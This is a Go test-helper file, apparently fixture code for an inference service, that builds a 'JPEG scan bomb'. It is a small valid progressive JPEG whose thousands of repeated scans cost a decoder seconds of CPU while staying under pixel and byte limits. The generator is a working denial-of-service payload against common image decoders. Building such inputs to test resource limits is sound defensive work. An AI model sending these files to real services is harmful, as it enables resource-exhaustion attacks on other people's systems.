package inferencetest

import (
	"bytes"
	"encoding/binary"
)

// JPEGScanBomb returns a valid progressive greyscale JPEG (SOF2) of
// width×height pixels and scans scans (at least 1): the first sets every DC
// coefficient to 0, the others repeat the first AC scan (spectral range
// 1–63, no successive approximation), each coding all of the image's
// blocks as end-of-band runs of up to 32767 blocks in 2 bytes. Every scan
// costs a decoder one pass over all blocks while the file grows by 10
// bytes plus 2 per 32767 blocks: 2048×2048 with 10 000 scans is 178 KB
// and 6.5·10⁸ block visits (3 s of CPU for libjpeg-turbo, 11 s for
// image/jpeg), a CPU decompression bomb under any pixel or byte limit. It
// decodes to mid-grey (level 128).
func JPEGScanBomb(width, height, scans int) []byte {
	var b bytes.Buffer
	seg := func(marker byte, data ...byte) {
		b.Write([]byte{0xFF, marker})
		binary.Write(&b, binary.BigEndian, uint16(2+len(data)))
		b.Write(data)
	}
	b.Write([]byte{0xFF, 0xD8})
	seg(0xDB, append([]byte{0x00}, bytes.Repeat([]byte{1}, 64)...)...) // DQT 0: all ones
	seg(0xC2, 8, byte(height>>8), byte(height), byte(width>>8), byte(width), 1, 1, 0x11, 0)
	// One-symbol Huffman tables, each symbol a 1-bit code "0": DC
	// category 0, AC EOB run r=14 (16384–32767 blocks, 14 extra bits).
	seg(0xC4, append([]byte{0x00, 1}, append(make([]byte, 15), 0x00)...)...)
	seg(0xC4, append([]byte{0x10, 1}, append(make([]byte, 15), 0xE0)...)...)
	blocks := ((width + 7) / 8) * ((height + 7) / 8)
	// DC first scan: one "0" bit a block.
	seg(0xDA, 1, 1, 0x00, 0, 0, 0)
	var w bitWriter
	for range blocks {
		w.put(0, 1)
	}
	b.Write(w.flush())
	// AC scans: end-of-band runs covering every block.
	var ac bitWriter
	for left := blocks; left > 0; {
		run := min(max(left, 16384), 32767)
		ac.put(0, 1)
		ac.put(uint32(run-16384), 14)
		left -= run
	}
	scan := ac.flush()
	for range scans - 1 {
		seg(0xDA, 1, 1, 0x00, 1, 63, 0)
		b.Write(scan)
	}
	b.Write([]byte{0xFF, 0xD9})
	return b.Bytes()
}

// bitWriter packs entropy-coded bits MSB first, stuffing a 0x00 after
// every 0xFF byte as JPEG requires.
type bitWriter struct {
	out  []byte
	acc  uint32
	nacc uint
}

func (w *bitWriter) put(v uint32, n uint) {
	for i := int(n) - 1; i >= 0; i-- {
		w.acc = w.acc<<1 | (v>>uint(i))&1
		w.nacc++
		if w.nacc == 8 {
			w.emit(byte(w.acc))
			w.acc, w.nacc = 0, 0
		}
	}
}

func (w *bitWriter) emit(c byte) {
	w.out = append(w.out, c)
	if c == 0xFF {
		w.out = append(w.out, 0)
	}
}

// flush pads the last byte with 1 bits and returns the bytes written.
func (w *bitWriter) flush() []byte {
	if w.nacc > 0 {
		w.emit(byte(w.acc<<(8-w.nacc) | (1<<(8-w.nacc) - 1)))
		w.acc, w.nacc = 0, 0
	}
	out := w.out
	w.out = nil
	return out
}
